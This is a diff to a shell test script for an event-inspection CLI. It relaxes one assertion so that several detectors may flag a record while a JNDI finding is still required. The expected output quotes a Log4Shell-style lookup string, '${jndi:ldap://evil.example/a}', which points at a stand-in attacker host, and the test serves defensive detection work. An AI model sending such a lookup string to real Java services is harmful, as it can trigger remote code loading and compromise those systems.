@@ -31,7 +31,10 @@ expect_rc 1 "$cli" inspect --ndjson "$tmp/events.ndjson"
 has '^{"n":1,"id":"a-1","source":"sqs","verdict":"pass"'
 has '^{"n":2,"id":7,"source":"apigw-authorizer"'
 has '^{"n":3,"source":"unknown","verdict":"error"'
-has '^{"n":4,"source":"apigw-v1","verdict":"alert","score":[0-9]*,"findings":\[{"rule":"jndi[.a-z_]*","category":"jndi","severity":"[a-z]*","path":"queryStringParameters.q","excerpt":"${jndi:ldap://evil.example/a}"}\]'
+has '^{"n":4,"source":"apigw-v1","verdict":"alert","score":[0-9]*,"findings":\[{"rule":'
+# other detectors (ssrf: an ldap URL) may also fire; the jndi finding must be there
+has '{"rule":"jndi[.a-z_]*","category":"jndi","severity":"[a-z]*","path":"queryStringParameters.q","excerpt":"${jndi:ldap://evil.example/a}"}[],]'
+has '"us":[0-9.]*}$'
 [ "$(wc -l <"$tmp/out")" = 4 ] || fail "want 4 lines"
 
 # block mode, stdin
